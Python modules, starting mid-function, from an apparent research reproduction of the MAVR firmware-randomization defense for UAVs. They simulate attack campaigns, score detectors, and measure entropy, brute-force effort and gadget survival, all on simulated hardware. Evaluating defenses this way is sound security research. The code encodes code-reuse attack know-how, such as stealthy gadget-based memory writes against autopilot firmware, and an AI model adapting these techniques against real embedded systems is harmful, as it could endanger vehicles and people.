        # the attacker's guess: randomize their own copy and aim there
        guess, _perm = randomize_image(image, random.Random(rng.randrange(2**31)))
        exploit = StealthyAttack(guess, facts)
        burst = station.exploit_burst(
            PARAM_SET.msg_id,
            exploit.attack_bytes([Write3(target, b"\x40\x00\x00")]),
        )
        detections_before = system.report().attacks_detected
        system.autopilot.receive_bytes(burst)
        system.run(150, watch_every=5)
        if system.autopilot.read_variable(target_variable) != baseline:
            result.effects += 1
        detected = system.report().attacks_detected > detections_before
        result.per_attempt_detected.append(detected)
        if detected:
            result.detections += 1

    report = system.report()
    result.randomizations_consumed = report.randomizations
    result.still_flying = system.autopilot.status.value == "running"
    return result
