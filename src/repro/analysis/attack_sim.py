"""Full-system attack simulation: guessing attackers vs the live defense.

Closes the loop between the closed-form brute-force analysis and the
simulated hardware:

* :func:`oracle_attack` — an attacker who *knows* the current permutation
  (insider / fuse bypass) builds a fresh exploit against the randomized
  image and succeeds.  This falsifies the alternative explanation for
  §VII-A ("maybe randomization just breaks the firmware"): capability is
  intact, only secrecy defeats the attacker.
* :func:`guessing_campaign` — an attacker who replays exploits built
  against *wrong* layout guesses at a MAVR system.  Measures effect rate
  (expected: zero at any feasible number of attempts) and the defense's
  detection/recovery behaviour.

Both are thin folds over the :mod:`repro.sim` scenario layer: every
attempt is one :class:`~repro.sim.ScenarioSpec` played by
:func:`~repro.sim.run_scenario`, so ``guessing_campaign(...,
parallelism=4)`` fans the same specs over a process pool and produces
bit-identical aggregates to the serial path.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List

from ..binfmt.image import FirmwareImage
from ..sim import CampaignRunner, ScenarioSpec

_SEED_SPACE = 2**31


@dataclass
class CampaignResult:
    """Outcome of a multi-attempt guessing campaign."""

    attempts: int = 0
    effects: int = 0  # attempts whose write actually landed
    detections: int = 0
    randomizations_consumed: int = 0
    still_flying: bool = True
    per_attempt_detected: List[bool] = field(default_factory=list)

    @property
    def effect_rate(self) -> float:
        return self.effects / self.attempts if self.attempts else 0.0

    @property
    def detection_rate(self) -> float:
        return self.detections / self.attempts if self.attempts else 0.0


def oracle_attack(
    image: FirmwareImage, seed: int = 0, target_variable: str = "gyro_offset",
    values: bytes = b"\x40\x00\x00",
) -> bool:
    """Attack a randomized image with full knowledge of its layout.

    Returns True when the write lands stealthily — demonstrating that the
    randomized firmware is still perfectly exploitable *if* the layout
    leaks, i.e. MAVR's security rests entirely on layout secrecy (which
    the readout fuse enforces).
    """
    from ..sim import run_scenario

    spec = ScenarioSpec(
        image_hex=image.to_preprocessed_hex(),
        protected=False,
        attack="oracle",
        attack_seed=seed,
        target_variable=target_variable,
        values=values,
        observe_ticks=30,
        label="oracle",
    )
    result = run_scenario(spec)
    return result.succeeded and result.stealthy


def campaign_specs(
    image: FirmwareImage,
    attempts: int = 5,
    seed: int = 0,
    target_variable: str = "gyro_offset",
    defense: str = "mavr",
) -> List[ScenarioSpec]:
    """The guessing campaign as data: one spec per attempt.

    Every attempt faces a *freshly randomized* board — faithful to the
    paper's model, where each failed attempt triggers re-randomization, so
    attempts are independent draws from the layout space.  Board and
    attacker seeds are drawn from one ``random.Random(seed)`` stream up
    front, which is what lets serial and parallel runs execute the exact
    same spec list.
    """
    rng = random.Random(seed)
    return [
        ScenarioSpec(
            image_hex=image.to_preprocessed_hex(),
            seed=rng.randrange(_SEED_SPACE),
            defense=defense,
            attack="guess",
            attack_seed=rng.randrange(_SEED_SPACE),
            target_variable=target_variable,
            label=f"guess-{index}",
        )
        for index in range(attempts)
    ]


def guessing_campaign(
    image: FirmwareImage,
    attempts: int = 5,
    seed: int = 0,
    target_variable: str = "gyro_offset",
    parallelism: int = 1,
    defense: str = "mavr",
) -> CampaignResult:
    """Replay wrong-layout exploits at MAVR-protected systems.

    Each attempt builds a V2 exploit against a *guessed* randomization of
    the original binary (the attacker can generate candidate layouts —
    they have the unprotected image — they just cannot know which one is
    live).  The exploit is delivered, the defense observes, and the
    campaign records what happened.  ``parallelism`` > 1 fans attempts
    over a process pool; aggregates are bit-identical to the serial path.
    """
    specs = campaign_specs(image, attempts, seed, target_variable, defense)
    report = CampaignRunner(jobs=parallelism).run(specs)
    result = CampaignResult(attempts=len(specs))
    for scenario in report.results:
        if scenario.effect:
            result.effects += 1
        result.per_attempt_detected.append(scenario.detected)
        if scenario.detected:
            result.detections += 1
        result.randomizations_consumed += scenario.randomizations
        result.still_flying = result.still_flying and scenario.still_flying
    return result
