"""Detector scoring: per-attack-kind precision/recall for the GCS.

The :class:`~repro.uav.groundstation.GcsAnomalyDetector` is the defense
of the protocol tier, and this module is its measurement harness.  For
every protocol-layer kind in the attack registry it flies a batch of
attacked sessions (each with a derived attacker seed) plus an equal
batch of benign sessions, and scores the detector the standard way:

* **recall** — attacked runs where the detector flagged at least one of
  the kind's ``expected_anomalies``, over attacked runs;
* **precision** — those true positives over (true positives + benign
  runs that flagged the same anomaly set — false alarms);
* **effect_rate** — attacked runs where the attack actually landed
  (duplicates accepted, GCS belief dragged off track, rogue waypoint
  accepted, mode forced, uplink saturated), independent of detection.

Sessions run on the simulated clock with seeded RNGs, so the matrix is
bit-identical across runs — ``BENCH_detector.json`` and the table in
``docs/ATTACKS.md`` can be diffed mechanically (the doc-drift suite
does).  Flood throughput (frames/s, wall clock) is measured separately
in ``benchmarks/bench_detector.py`` and deliberately kept out of the
table, so a CI-regenerated JSON still renders the same markdown.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from ..attack.registry import PROTOCOL_LAYER, attack_kinds
from ..sim.scenario import derive_seed
from ..sim.swarm import SwarmSpec, run_swarm_scenario

#: column order of the markdown table (keys into a kind's metric dict)
DETECTOR_COLUMNS = (
    ("expected", "expected anomalies"),
    ("effect_rate", "effect rate"),
    ("recall", "recall"),
    ("precision", "precision"),
)


def _swarm_spec(
    kind: Optional[str], run: int, *, boards: int, seed: int,
    observe_ticks: int,
) -> SwarmSpec:
    stream = kind if kind is not None else "benign"
    return SwarmSpec(
        protected=False,  # the detector, not the firmware defense, is under test
        boards=boards,
        seed=derive_seed(seed, run, f"{stream}-board"),
        attack=kind,
        attack_seed=derive_seed(seed, run, f"{stream}-attack"),
        observe_ticks=observe_ticks,
        label=f"{stream}-{run}",
    )


def build_detector_matrix(
    runs_per_kind: int = 6,
    boards: int = 1,
    seed: int = 0,
    observe_ticks: int = 80,
) -> dict:
    """Score every protocol kind against the detector, plus a benign
    baseline, as one JSON-serializable dict."""
    kinds = attack_kinds(PROTOCOL_LAYER)

    benign_flags: List[tuple] = []
    for run in range(runs_per_kind):
        result = run_swarm_scenario(_swarm_spec(
            None, run, boards=boards, seed=seed, observe_ticks=observe_ticks,
        ))
        benign_flags.append(tuple(result.detector["flagged"]))

    matrix: dict = {
        "runs_per_kind": runs_per_kind,
        "boards": boards,
        "seed": seed,
        "observe_ticks": observe_ticks,
        "benign": {
            "runs": runs_per_kind,
            "false_alarm_runs": sum(1 for f in benign_flags if f),
        },
        "kinds": {},
    }
    for kind in kinds:
        detected = 0
        effects = 0
        for run in range(runs_per_kind):
            result = run_swarm_scenario(_swarm_spec(
                kind.name, run, boards=boards, seed=seed,
                observe_ticks=observe_ticks,
            ))
            if result.detected:
                detected += 1
            if result.effect:
                effects += 1
        false_alarms = sum(
            1 for flagged in benign_flags
            if any(k in flagged for k in kind.expected_anomalies)
        )
        matrix["kinds"][kind.name] = {
            "expected": list(kind.expected_anomalies),
            "runs": runs_per_kind,
            "detected": detected,
            "effects": effects,
            "benign_false_alarms": false_alarms,
            "effect_rate": round(effects / runs_per_kind, 4),
            "recall": round(detected / runs_per_kind, 4),
            "precision": round(
                detected / (detected + false_alarms), 4
            ) if detected + false_alarms else 0.0,
        }
    return matrix


def format_detector_table(matrix: dict) -> str:
    """Render the matrix as the markdown table ``docs/ATTACKS.md`` embeds.

    The doc-drift suite re-renders the committed JSON through this exact
    function and diffs it against the doc, so the formatting here is the
    single source of truth for the published detector numbers.
    """
    headers = ["attack kind"] + [label for _, label in DETECTOR_COLUMNS]
    lines = [
        "| " + " | ".join(headers) + " |",
        "|" + "|".join("---" for _ in headers) + "|",
    ]
    for name, metrics in matrix["kinds"].items():
        cells = [name] + [
            _format_cell(key, metrics[key]) for key, _ in DETECTOR_COLUMNS
        ]
        lines.append("| " + " | ".join(cells) + " |")
    return "\n".join(lines)


def _format_cell(key: str, value) -> str:
    if key == "expected":
        return ", ".join(value)
    return f"{value:.2f}"


def matrix_summary_lines(matrix: dict) -> List[str]:
    """Human-readable one-liners for the bench's console output."""
    lines = [
        f"benign: {matrix['benign']['false_alarm_runs']}"
        f"/{matrix['benign']['runs']} false-alarm runs"
    ]
    for name, m in matrix["kinds"].items():
        lines.append(
            f"{name:>16} effect {m['effect_rate']:.2f}, "
            f"recall {m['recall']:.2f}, precision {m['precision']:.2f} "
            f"(expected: {', '.join(m['expected'])})"
        )
    return lines
