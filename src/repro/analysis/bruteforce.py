"""Brute-force effort analysis (paper §V-D, §VII-A1).

The attacker guesses the randomization permutation.  Against a *fixed*
layout with feedback (each failed attempt eliminates one permutation):

    P(success at attempt j) = 1/N          (uniform over N layouts)
    E[attempts]             = (N+1)/2

With N = n! layouts that is (n!+1)/2.  MAVR re-randomizes after every
failed attempt, so eliminated guesses regain validity and the expected
effort doubles to ~n! — the paper's headline number.

Closed forms are exact; the Monte-Carlo estimators exist so tests can
confirm the model *and* the simulated system agree.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass
from typing import Optional


def success_probability_at(attempt: int, layouts: int) -> float:
    """P(j): probability the j-th guess (without replacement) succeeds."""
    if attempt < 1 or layouts < 1:
        raise ValueError("attempt and layouts must be positive")
    if attempt > layouts:
        return 0.0
    # telescoping product from the paper: always exactly 1/N
    return 1.0 / layouts


def expected_attempts_fixed_layout(layouts: int):
    """E[X] = (N+1)/2 against a layout that never changes.

    Returns a float for tractable N and an exact integer when N is too
    large for floating point (n! for real applications overflows float64
    around 170!).
    """
    if layouts < 1:
        raise ValueError("layouts must be positive")
    try:
        return (layouts + 1) / 2
    except OverflowError:
        return (layouts + 1) // 2


def expected_attempts_mavr(layouts: int):
    """Re-randomization on every failure: geometric with p = 1/N ⇒ E = N."""
    if layouts < 1:
        raise ValueError("layouts must be positive")
    return layouts


def layouts_for_functions(function_count: int) -> int:
    """n! distinct orderings of the function blocks."""
    return math.factorial(function_count)


@dataclass(frozen=True)
class BruteForceEstimate:
    """Effort summary for one application."""

    function_count: int
    layouts: int
    expected_fixed: float
    expected_mavr: float

    @property
    def log10_layouts(self) -> float:
        return math.lgamma(self.function_count + 1) / math.log(10)


def estimate_for(function_count: int) -> BruteForceEstimate:
    layouts = layouts_for_functions(function_count)
    return BruteForceEstimate(
        function_count=function_count,
        layouts=layouts,
        expected_fixed=expected_attempts_fixed_layout(layouts),
        expected_mavr=expected_attempts_mavr(layouts),
    )


# -- Monte Carlo ------------------------------------------------------------

#: parallel sweeps always split into this many chunks, regardless of the
#: worker count, so the estimate depends only on the rng seed — running
#: with ``parallelism=1`` and ``parallelism=4`` gives the same mean
_SWEEP_CHUNKS = 8


def simulate_fixed_layout(
    layouts: int, trials: int, rng: Optional[random.Random] = None,
    parallelism: int = 1,
) -> float:
    """Mean attempts guessing a fixed secret without replacement."""
    rng = rng if rng is not None else random.Random()
    if parallelism > 1:
        return _parallel_sweep(_fixed_chunk, layouts, trials, rng, parallelism)
    return _fixed_chunk((layouts, trials, rng, None)) / trials


def simulate_mavr(
    layouts: int, trials: int, rng: Optional[random.Random] = None,
    max_attempts: int = 10_000_000,
    parallelism: int = 1,
) -> float:
    """Mean attempts when the secret is redrawn after every failure."""
    rng = rng if rng is not None else random.Random()
    if parallelism > 1:
        return _parallel_sweep(
            _mavr_chunk, layouts, trials, rng, parallelism,
            max_attempts=max_attempts,
        )
    return _mavr_chunk((layouts, trials, rng, max_attempts)) / trials


def _fixed_chunk(payload) -> int:
    """Total attempts over one chunk of fixed-layout trials."""
    layouts, trials, rng, _ = payload
    rng = rng if isinstance(rng, random.Random) else random.Random(rng)
    total = 0
    for _ in range(trials):
        secret = rng.randrange(layouts)
        candidates = list(range(layouts))
        rng.shuffle(candidates)
        total += candidates.index(secret) + 1
    return total


def _mavr_chunk(payload) -> int:
    """Total attempts over one chunk of re-randomizing trials."""
    layouts, trials, rng, max_attempts = payload
    rng = rng if isinstance(rng, random.Random) else random.Random(rng)
    total = 0
    for _ in range(trials):
        attempts = 0
        while True:
            attempts += 1
            if attempts > max_attempts:
                raise RuntimeError("simulation runaway; lower `layouts`")
            if rng.randrange(layouts) == rng.randrange(layouts):
                break
        total += attempts
    return total


def _parallel_sweep(
    chunk_fn, layouts: int, trials: int, rng: random.Random,
    parallelism: int, max_attempts: int = 10_000_000,
) -> float:
    """Fan a Monte-Carlo sweep over the shared process-pool primitive.

    Chunk seeds are drawn from ``rng`` up front, so a given seed always
    yields the same estimate at any worker count; a chunk failure
    surfaces as the pool's error placeholder and raises here.
    """
    from ..sim import PoolTaskError, map_indexed

    base = trials // _SWEEP_CHUNKS
    sizes = [
        base + (1 if index < trials % _SWEEP_CHUNKS else 0)
        for index in range(_SWEEP_CHUNKS)
    ]
    payloads = [
        (layouts, size, rng.randrange(2**31), max_attempts)
        for size in sizes if size
    ]
    totals = map_indexed(chunk_fn, payloads, jobs=parallelism)
    for item in totals:
        if isinstance(item, PoolTaskError):
            raise RuntimeError(f"sweep chunk failed: {item.message}")
    return sum(totals) / trials
