"""Gadget-survival analysis: what randomization actually breaks.

A code-reuse payload encodes absolute gadget addresses.  After a shuffle a
payload survives only if *every* gadget it uses still sits at its old
address.  This module measures, over many randomizations:

* the fraction of gadget addresses that still point at the same bytes,
* the probability that a two-gadget payload (stk_move + write_mem, the
  paper's stealthy attack) survives intact.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, List, Optional

from ..attack.gadgets import GadgetFinder
from ..binfmt.image import FirmwareImage
from ..core.patching import randomize_image


@dataclass(frozen=True)
class SurvivalSample:
    """One randomization's effect on the gadget inventory."""

    total_gadgets: int
    surviving_addresses: int
    attack_pair_survives: bool

    @property
    def survival_fraction(self) -> float:
        if self.total_gadgets == 0:
            return 0.0
        return self.surviving_addresses / self.total_gadgets


def measure_survival(
    image: FirmwareImage,
    trials: int = 10,
    rng: Optional[random.Random] = None,
    probe_limit: int = 200,
    diversify: Optional[Callable] = None,
) -> List[SurvivalSample]:
    """Diversify ``trials`` times and measure address survival.

    ``diversify`` is any ``(image, rng) -> (image, layout)`` callable — a
    :meth:`~repro.core.defenses.DefenseBackend.diversify` bound method
    measures a specific backend; the default is MAVR's function shuffle.
    """
    rng = rng if rng is not None else random.Random()
    diversify = diversify if diversify is not None else randomize_image
    finder = GadgetFinder(image)
    gadgets = finder.gadgets()[:probe_limit]
    stk = finder.find_stk_move()
    write_mem = finder.find_write_mem()
    samples: List[SurvivalSample] = []
    for _ in range(trials):
        randomized, _layout = diversify(image, rng)
        surviving = 0
        for gadget in gadgets:
            start, end = gadget.address, gadget.ret_address + 2
            if randomized.code[start:end] == image.code[start:end]:
                surviving += 1
        pair_ok = all(
            randomized.code[addr : addr + 4] == image.code[addr : addr + 4]
            for addr in (stk.entry, write_mem.std_entry, write_mem.pop_entry)
        )
        samples.append(
            SurvivalSample(
                total_gadgets=len(gadgets),
                surviving_addresses=surviving,
                attack_pair_survives=pair_ok,
            )
        )
    return samples


def mean_survival_fraction(samples: List[SurvivalSample]) -> float:
    if not samples:
        return 0.0
    return sum(sample.survival_fraction for sample in samples) / len(samples)


def attack_survival_rate(samples: List[SurvivalSample]) -> float:
    if not samples:
        return 0.0
    return sum(sample.attack_pair_survives for sample in samples) / len(samples)
