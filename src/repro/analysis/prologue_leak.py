"""The -mcall-prologues information leak (paper §VI-B1).

"While this option essentially consolidates most gadgets into one area,
the resulting very useful gadget has hundreds of references scattered
throughout the program which are prone to leaking information about its
new location."

Given a stock-toolchain image, this module counts the references to the
shared ``__prologue_saves__``/``__epilogue_restores__`` blocks — the
beacons an attacker can triangulate from — quantifying why MAVR's custom
toolchain disables the option.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Tuple

from ..asm.linker import EPILOGUE_NAME, PROLOGUE_NAME
from ..avr.decoder import decode_at
from ..avr.insn import Mnemonic
from ..binfmt.image import FirmwareImage
from ..errors import DecodeError


@dataclass(frozen=True)
class LeakReport:
    """How exposed the consolidated gadget block is."""

    prologue_references: int
    epilogue_references: int
    referencing_functions: int
    total_functions: int

    @property
    def total_references(self) -> int:
        return self.prologue_references + self.epilogue_references

    @property
    def exposure_fraction(self) -> float:
        """Share of functions that point at the shared blocks.

        Each referencing function is an independent observation an
        attacker with any single code-pointer disclosure can use to
        recover the block's randomized location.
        """
        if self.total_functions == 0:
            return 0.0
        return self.referencing_functions / self.total_functions


def measure_prologue_leak(image: FirmwareImage) -> LeakReport:
    """Count call/jmp references into the shared prologue/epilogue blocks."""
    targets: Dict[str, Tuple[int, int]] = {}
    for name in (PROLOGUE_NAME, EPILOGUE_NAME):
        if name in image.symbols:
            symbol = image.symbols.get(name)
            targets[name] = (symbol.address, symbol.end)
    if not targets:
        return LeakReport(0, 0, 0, image.function_count())

    prologue_refs = 0
    epilogue_refs = 0
    referencing: set = set()
    for function in image.symbols.functions():
        if function.name in targets:
            continue
        offset = function.address
        while offset < function.end:
            try:
                insn, size = decode_at(image.code, offset)
            except DecodeError:
                offset += 2
                continue
            target_byte = None
            if insn.mnemonic in (Mnemonic.CALL, Mnemonic.JMP):
                target_byte = insn.k * 2
            elif insn.mnemonic in (Mnemonic.RCALL, Mnemonic.RJMP):
                target_byte = offset + 2 + insn.k * 2
            if target_byte is not None:
                for name, (start, end) in targets.items():
                    if start <= target_byte < end:
                        if name == PROLOGUE_NAME:
                            prologue_refs += 1
                        else:
                            epilogue_refs += 1
                        referencing.add(function.name)
            offset += size
    return LeakReport(
        prologue_references=prologue_refs,
        epilogue_references=epilogue_refs,
        referencing_functions=len(referencing),
        total_functions=image.function_count(),
    )
