"""Layout entropy (paper §VIII-B).

ArduRover, the smallest application, has 800 shuffleable symbols, giving
log2(800!) ≈ 6567 bits of layout entropy — "computationally secure against
a brute force attack" without needing the random inter-function padding
the authors considered and dropped.
"""

from __future__ import annotations

import math
from dataclasses import dataclass
from typing import Dict

from ..binfmt.image import FirmwareImage


def permutation_entropy_bits(function_count: int) -> float:
    """log2(n!) via lgamma (exact enough for thousands of functions)."""
    if function_count < 0:
        raise ValueError("function count cannot be negative")
    return math.lgamma(function_count + 1) / math.log(2)


def image_entropy_bits(image: FirmwareImage) -> float:
    return permutation_entropy_bits(image.function_count())


def padding_entropy_bits(function_count: int, pad_choices: int) -> float:
    """Extra bits if every gap could take one of ``pad_choices`` sizes.

    The alternative §VIII-B evaluates: random padding between functions.
    """
    if pad_choices < 1:
        raise ValueError("pad_choices must be >= 1")
    return function_count * math.log2(pad_choices)


@dataclass(frozen=True)
class EntropyReport:
    function_count: int
    shuffle_bits: float
    padding_bits_16: float  # with 16 possible pad sizes per gap

    @property
    def total_with_padding(self) -> float:
        return self.shuffle_bits + self.padding_bits_16


def entropy_report(function_count: int) -> EntropyReport:
    return EntropyReport(
        function_count=function_count,
        shuffle_bits=permutation_entropy_bits(function_count),
        padding_bits_16=padding_entropy_bits(function_count, 16),
    )


def compare_defenses(function_count: int) -> Dict[str, float]:
    """Entropy of MAVR vs the coarse alternatives §IX dismisses."""
    return {
        # 16-bit AVR data/code addresses leave ASLR almost nothing to shift:
        # a handful of page-aligned bases
        "aslr_16bit_base_bits": math.log2(64),
        "function_shuffle_bits": permutation_entropy_bits(function_count),
    }


def backend_entropy_bits(image: FirmwareImage) -> Dict[str, float]:
    """Layout entropy per defense backend, for the comparison matrix.

    Every registered backend prices its own layout space: mavr counts
    function orderings, daedalus sub-block orderings (plus gap placement
    when the image scatters), ctomp is honestly zero — it defends by
    recovery, not secrecy.
    """
    from ..core.defenses import DEFENSE_BACKENDS, create_backend

    return {
        name: create_backend(name).entropy_bits(image)
        for name in DEFENSE_BACKENDS
    }
