"""Defense comparison matrix: every backend priced on the same scale.

One row per (application, backend) with the five numbers the tradeoff
discussion needs:

* **entropy_bits** — the layout space an attacker must guess through,
* **gadget_survival** — fraction of gadget addresses a diversification
  leaves intact (1.0 = the layout is public),
* **startup_overhead_ms** — the install boot, full ISP transfer included,
* **recovery_latency_ms** — detection-to-flying-again on the simulated
  clock (differential reflash for the diversifying backends, an in-place
  context restore for ctomp),
* **recovery_pages_written** — flash pages rewritten by that recovery
  (the wear story: ctomp's whole point is that this is zero).

Everything runs on the simulated clock with seeded RNGs, so the matrix is
bit-identical across runs — ``BENCH_defense_matrix.json`` and the table in
``docs/DEFENSES.md`` can be diffed mechanically (the doc-drift suite does).
"""

from __future__ import annotations

import random
from typing import Dict, List

from ..binfmt.image import FirmwareImage
from ..core.defenses import DEFENSE_BACKENDS, create_backend
from ..core.mavr import MavrSystem
from .gadget_survival import (
    attack_survival_rate,
    mean_survival_fraction,
    measure_survival,
)

#: column order of the markdown table (keys into a backend's metric dict)
MATRIX_COLUMNS = (
    ("layout_units", "units"),
    ("entropy_bits", "entropy (bits)"),
    ("gadget_survival", "gadget survival"),
    ("startup_overhead_ms", "startup (ms)"),
    ("recovery_latency_ms", "recovery (ms)"),
    ("recovery_pages_written", "pages/recovery"),
)


def measure_backend(
    name: str,
    image: FirmwareImage,
    trials: int = 3,
    seed: int = 2024,
    observe_ticks: int = 20,
) -> Dict[str, float]:
    """Price one backend on one application.

    The static metrics (entropy, survival) come from a standalone backend
    instance; the lifecycle metrics come from a full board: install boot,
    a healthy flight, a wild-jump fault, and the recovery the watchdog
    pass triggers.
    """
    probe = create_backend(name)
    entropy = probe.entropy_bits(image)
    samples = measure_survival(
        image, trials=trials, rng=random.Random(seed), diversify=probe.diversify
    )

    system = MavrSystem(image, seed=seed, defense=name)
    startup_ms = system.boot()
    system.run(observe_ticks, watch_every=5)
    isp = system.master.isp.stats
    pages_before = isp.pages_written
    cycles_before = isp.programming_cycles
    # the paper's failure mode: a hijacked control transfer into nowhere
    system.autopilot.cpu.pc = (system.running_image.size + 64) // 2
    system.run(10, watch_every=5)
    report = system.report()
    if report.attacks_detected != 1:
        raise RuntimeError(
            f"{name} on {image.name}: expected exactly one detection, "
            f"got {report.attacks_detected}"
        )
    return {
        "layout_units": _layout_units(probe, image),
        "entropy_bits": round(entropy, 1),
        "gadget_survival": round(mean_survival_fraction(samples), 4),
        "attack_pair_survival": round(attack_survival_rate(samples), 4),
        "startup_overhead_ms": round(startup_ms, 2),
        "recovery_latency_ms": round(report.last_startup_overhead_ms, 2),
        "recovery_pages_written": isp.pages_written - pages_before,
        "recovery_flash_cycles": isp.programming_cycles - cycles_before,
        "still_flying": report.defense_stats is not None
        and system.autopilot.status.value == "running",
    }


def _layout_units(backend, image: FirmwareImage) -> int:
    """How many independently placeable units the backend shuffles."""
    if backend.name == "daedalus":
        return backend.split(image).function_count()
    if backend.name == "ctomp":
        return 0
    return image.function_count()


def build_matrix(
    apps: Dict[str, FirmwareImage], trials: int = 3, seed: int = 2024
) -> dict:
    """The full (app x backend) matrix as one JSON-serializable dict."""
    matrix = {"trials": trials, "seed": seed, "apps": {}}
    for app_name, image in sorted(apps.items()):
        matrix["apps"][app_name] = {
            "functions": image.function_count(),
            "code_bytes": len(image.code),
            "backends": {
                backend: measure_backend(backend, image, trials, seed)
                for backend in DEFENSE_BACKENDS
            },
        }
    return matrix


def format_matrix_table(matrix: dict) -> str:
    """Render the matrix as the markdown table ``docs/DEFENSES.md`` embeds.

    The doc-drift suite re-renders the committed JSON through this exact
    function and diffs it against the doc, so the formatting here is the
    single source of truth for the published numbers.
    """
    headers = ["app", "backend"] + [label for _, label in MATRIX_COLUMNS]
    lines = [
        "| " + " | ".join(headers) + " |",
        "|" + "|".join("---" for _ in headers) + "|",
    ]
    for app_name, app in matrix["apps"].items():
        for backend in DEFENSE_BACKENDS:
            metrics = app["backends"][backend]
            cells = [app_name, backend] + [
                _format_cell(key, metrics[key]) for key, _ in MATRIX_COLUMNS
            ]
            lines.append("| " + " | ".join(cells) + " |")
    return "\n".join(lines)


def _format_cell(key: str, value) -> str:
    if key == "entropy_bits":
        return str(int(round(value)))
    if key == "gadget_survival":
        return f"{value:.4f}"
    if key.endswith("_ms"):
        return f"{value:.2f}"
    return str(int(value))


def matrix_summary_lines(matrix: dict) -> List[str]:
    """Human-readable one-liners for the bench's console output."""
    lines = []
    for app_name, app in matrix["apps"].items():
        for backend in DEFENSE_BACKENDS:
            m = app["backends"][backend]
            lines.append(
                f"{app_name:>10} / {backend:<8} "
                f"entropy {int(round(m['entropy_bits'])):>6} bits, "
                f"survival {m['gadget_survival']:.4f}, "
                f"recovery {m['recovery_latency_ms']:>9.2f} ms, "
                f"{m['recovery_pages_written']:>4} pages"
            )
    return lines
