"""Security analysis: brute-force effort, entropy, gadget survival,
full-system attack campaigns."""

from .attack_sim import CampaignResult, guessing_campaign, oracle_attack
from .defense_matrix import (
    build_matrix,
    format_matrix_table,
    matrix_summary_lines,
    measure_backend,
)
from .bruteforce import (
    BruteForceEstimate,
    estimate_for,
    expected_attempts_fixed_layout,
    expected_attempts_mavr,
    layouts_for_functions,
    simulate_fixed_layout,
    simulate_mavr,
    success_probability_at,
)
from .entropy import (
    backend_entropy_bits,
    EntropyReport,
    compare_defenses,
    entropy_report,
    image_entropy_bits,
    padding_entropy_bits,
    permutation_entropy_bits,
)
from .gadget_survival import (
    SurvivalSample,
    attack_survival_rate,
    mean_survival_fraction,
    measure_survival,
)
from .prologue_leak import LeakReport, measure_prologue_leak
from .report import format_table, paper_vs_measured

__all__ = [
    "LeakReport",
    "measure_prologue_leak",
    "CampaignResult",
    "guessing_campaign",
    "oracle_attack",
    "build_matrix",
    "format_matrix_table",
    "matrix_summary_lines",
    "measure_backend",
    "BruteForceEstimate",
    "estimate_for",
    "expected_attempts_fixed_layout",
    "expected_attempts_mavr",
    "layouts_for_functions",
    "simulate_fixed_layout",
    "simulate_mavr",
    "success_probability_at",
    "EntropyReport",
    "compare_defenses",
    "backend_entropy_bits",
    "entropy_report",
    "image_entropy_bits",
    "padding_entropy_bits",
    "permutation_entropy_bits",
    "SurvivalSample",
    "attack_survival_rate",
    "mean_survival_fraction",
    "measure_survival",
    "format_table",
    "paper_vs_measured",
]
