"""Readout-protection fuse (paper §V-A3).

The application processor's lock bits prevent any external read of its
flash once set.  In MAVR this guarantees the *randomized* binary is never
exposed: an attacker can hold the original binary (it is on the external
flash / public download) but cannot dump the shuffled layout actually
executing.
"""

from __future__ import annotations

from ..avr.memory import FlashMemory
from ..errors import FuseViolationError


class ReadoutProtectedFlash:
    """Debug-port view of the application processor's flash.

    The CPU itself fetches from :class:`FlashMemory` directly (instruction
    fetch is internal); this wrapper is the *external* interface — ISP or
    JTAG reads — which the fuse gates.
    """

    def __init__(self, flash: FlashMemory, locked: bool = True) -> None:
        self._flash = flash
        self._locked = locked

    @property
    def locked(self) -> bool:
        return self._locked

    def set_lock(self) -> None:
        """Program the lock bits (one-way until a full chip erase)."""
        self._locked = True

    def chip_erase(self) -> None:
        """The only way to clear the fuse — it destroys the contents."""
        self._flash.erase()
        self._locked = False

    def external_read(self, address: int, length: int) -> bytes:
        """ISP/JTAG read attempt."""
        if self._locked:
            raise FuseViolationError(
                "readout protection fuse is set; external flash read denied"
            )
        return self._flash.dump(address, length)
