"""MAVR system facade: the full hardware + software defense in one object.

Wires together everything the paper's Fig. 7 shows: the application
processor (inside :class:`~repro.uav.Autopilot`), the master processor
with its external flash and ISP link, the readout-protection fuse, and the
host-side preprocessing entry point.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Optional, Union

from ..avr.engine import DEFAULT_ENGINE
from ..binfmt.image import FirmwareImage
from ..hw.board import CostModel
from ..hw.serialbus import PROTOTYPE_LINK, ProgrammingLink
from ..telemetry import Telemetry
from ..uav.autopilot import Autopilot
from ..uav.sensors import SensorState
from .defenses import DefenseBackend, create_backend
from .fuses import ReadoutProtectedFlash
from .master import MasterProcessor
from .policy import RandomizationPolicy
from .watchdog import WatchdogConfig

#: format of :meth:`MavrSystem.capture_snapshot` payloads; bump on any
#: change to the captured fields or their meaning
SNAPSHOT_VERSION = 1


@dataclass
class MavrReport:
    """Summary of a protected system's state."""

    boots: int
    randomizations: int
    attacks_detected: int
    flash_cycles_used: int
    flash_cycles_remaining: int
    last_startup_overhead_ms: float
    cost: dict
    # differential-reflash pricing of the most recent programming pass
    last_pages_written: int = 0
    last_pages_skipped: int = 0
    last_bytes_on_wire: int = 0
    # which defense backend ran, and its own accounting
    defense: str = "mavr"
    defense_stats: dict = field(default_factory=dict)


class MavrSystem:
    """A UAV protected by a pluggable defense backend (MAVR by default).

    ``defense`` selects the mitigation scheme — a name from
    :data:`~repro.core.defenses.DEFENSE_BACKENDS` or a ready-made
    :class:`~repro.core.defenses.DefenseBackend` instance.  The board
    wiring (master processor, external flash, ISP link, readout fuse) is
    identical for every backend; only the prepare/diversify/recover
    hooks differ.
    """

    def __init__(
        self,
        image: FirmwareImage,
        policy: RandomizationPolicy = RandomizationPolicy(),
        link: ProgrammingLink = PROTOTYPE_LINK,
        watchdog: WatchdogConfig = WatchdogConfig(),
        seed: Optional[int] = None,
        sensor_state: Optional[SensorState] = None,
        telemetry: Optional[Telemetry] = None,
        engine: str = DEFAULT_ENGINE,
        defense: Union[str, DefenseBackend] = "mavr",
        deploy_blob: Optional[bytes] = None,
    ) -> None:
        self.telemetry = telemetry if telemetry is not None else Telemetry()
        self.defense = (
            create_backend(defense) if isinstance(defense, str) else defense
        )
        hex_text = None
        if deploy_blob is None:
